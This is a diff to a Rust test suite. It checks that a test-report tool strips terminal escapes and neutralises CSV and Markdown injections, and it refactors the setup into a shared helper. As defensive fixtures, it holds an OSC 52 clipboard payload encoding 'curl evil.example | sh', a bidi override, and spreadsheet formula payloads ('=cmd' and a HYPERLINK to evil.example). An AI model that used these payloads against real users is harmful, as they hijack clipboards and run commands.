@@ -248,30 +248,39 @@ fn long_names_neither_panic_nor_widen_the_table() {
 const OSC52: &str = "\u{1b}]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\u{7}";
 const BIDI: &str = "\u{202e}";
 
-/// A report whose suite, classname, test name and failure message hold an OSC 52 sequence
-/// (which sets the terminal's clipboard) and a bidi override, and a report that does not
-/// parse, named with both.
-fn hostile_store(dir: &Path) -> std::path::PathBuf {
-    let evil = format!("evil{OSC52}x{BIDI}exe.txt");
+/// A store at `dir/store` of one run, `dir/history/run-1`, holding `files` (name, content)
+/// beside its run.json.
+fn one_run_store(dir: &Path, files: &[(&str, &str)]) -> std::path::PathBuf {
     let run = dir.join("history").join("run-1");
     write(
         &run.join("run.json"),
         "{\"run_id\": \"r1\", \"commit\": \"c1\", \"timestamp\": \"2026-01-01T00:00:00Z\"}\n",
     );
-    write(
-        &run.join("TEST-a.xml"),
-        format!(
-            "<testsuite name=\"S{evil}\"><testcase classname=\"C{evil}\" name=\"t{evil}\" time=\"1\"><failure message=\"m{evil}\">m{evil}\nline two</failure></testcase><testcase classname=\"C\" name=\"ok\" time=\"1\"/></testsuite>\n"
-        ),
-    );
-    write(
-        &run.join(format!("bad-{evil}.xml")),
-        "<testsuite><testcase name=\"y\" time=\"1\">",
-    );
+    for (name, content) in files {
+        write(&run.join(name), content);
+    }
     let store = dir.join("store");
     let out = ingest(&store, &[dir.join("history")], &["--quiet"]);
     assert!(out.status.success(), "{}", stderr(&out));
     store
+}
+
+/// A report whose suite, classname, test name and failure message hold an OSC 52 sequence
+/// (which sets the terminal's clipboard) and a bidi override, and a report that does not
+/// parse, named with both.
+fn hostile_store(dir: &Path) -> std::path::PathBuf {
+    let evil = format!("evil{OSC52}x{BIDI}exe.txt");
+    let report = format!(
+        "<testsuite name=\"S{evil}\"><testcase classname=\"C{evil}\" name=\"t{evil}\" time=\"1\"><failure message=\"m{evil}\">m{evil}\nline two</failure></testcase><testcase classname=\"C\" name=\"ok\" time=\"1\"/></testsuite>\n"
+    );
+    let bad = format!("bad-{evil}.xml");
+    one_run_store(
+        dir,
+        &[
+            ("TEST-a.xml", &report),
+            (&bad, "<testsuite><testcase name=\"y\" time=\"1\">"),
+        ],
+    )
 }
 
 /// C0 and C1 controls other than newline, DEL, and the bidi overrides and isolates.
@@ -322,18 +331,13 @@ fn no_control_character_from_a_report_reaches_the_terminal() {
 #[test]
 fn csv_fields_a_spreadsheet_would_run_as_formulas_stay_text() {
     let dir = tempfile::tempdir().unwrap();
-    let run_dir = dir.path().join("history").join("run-1");
-    write(
-        &run_dir.join("run.json"),
-        "{\"run_id\": \"r1\", \"commit\": \"c1\", \"timestamp\": \"2026-01-01T00:00:00Z\"}\n",
+    let store = one_run_store(
+        dir.path(),
+        &[(
+            "TEST-a.xml",
+            "<testsuite name=\"@suite\"><testcase classname=\"=cmd|' /C calc'!A0\" name=\"=HYPERLINK(&quot;http://evil.example/&quot;,&quot;x&quot;)\" time=\"1\"><failure message=\"-2+3\">+SUM(1)</failure></testcase><testcase classname=\"C\" name=\"ok\" time=\"1\"/></testsuite>\n",
+        )],
     );
-    write(
-        &run_dir.join("TEST-a.xml"),
-        "<testsuite name=\"@suite\"><testcase classname=\"=cmd|' /C calc'!A0\" name=\"=HYPERLINK(&quot;http://evil.example/&quot;,&quot;x&quot;)\" time=\"1\"><failure message=\"-2+3\">+SUM(1)</failure></testcase><testcase classname=\"C\" name=\"ok\" time=\"1\"/></testsuite>\n",
-    );
-    let store = dir.path().join("store");
-    let out = ingest(&store, &[dir.path().join("history")], &["--quiet"]);
-    assert!(out.status.success(), "{}", stderr(&out));
     for args in [
         &["flaky", "--format", "csv"][..],
         &["slow", "--format", "csv"],
@@ -376,21 +380,11 @@ fn csv_fields_a_spreadsheet_would_run_as_formulas_stay_text() {
 #[test]
 fn markdown_escapes_mentions_links_and_strikethrough() {
     let dir = tempfile::tempdir().unwrap();
-    let run_dir = dir.path().join("history").join("run-1");
     let hostile = "@everyone see https://evil.example/x ~~struck~~";
-    write(
-        &run_dir.join("run.json"),
-        "{\"run_id\": \"r1\", \"commit\": \"c1\", \"timestamp\": \"2026-01-01T00:00:00Z\"}\n",
+    let report = format!(
+        "<testsuite name=\"S {hostile}\"><testcase classname=\"C\" name=\"{hostile}\" time=\"1\"><failure message=\"{hostile}\">{hostile}</failure></testcase><testcase classname=\"C\" name=\"ok\" time=\"1\"/></testsuite>\n"
     );
-    write(
-        &run_dir.join("TEST-a.xml"),
-        format!(
-            "<testsuite name=\"S {hostile}\"><testcase classname=\"C\" name=\"{hostile}\" time=\"1\"><failure message=\"{hostile}\">{hostile}</failure></testcase><testcase classname=\"C\" name=\"ok\" time=\"1\"/></testsuite>\n"
-        ),
-    );
-    let store = dir.path().join("store");
-    let out = ingest(&store, &[dir.path().join("history")], &["--quiet"]);
-    assert!(out.status.success(), "{}", stderr(&out));
+    let store = one_run_store(dir.path(), &[("TEST-a.xml", &report)]);
     for args in [
         &["flaky", "--format", "md"][..],
         &["slow", "--format", "md"],
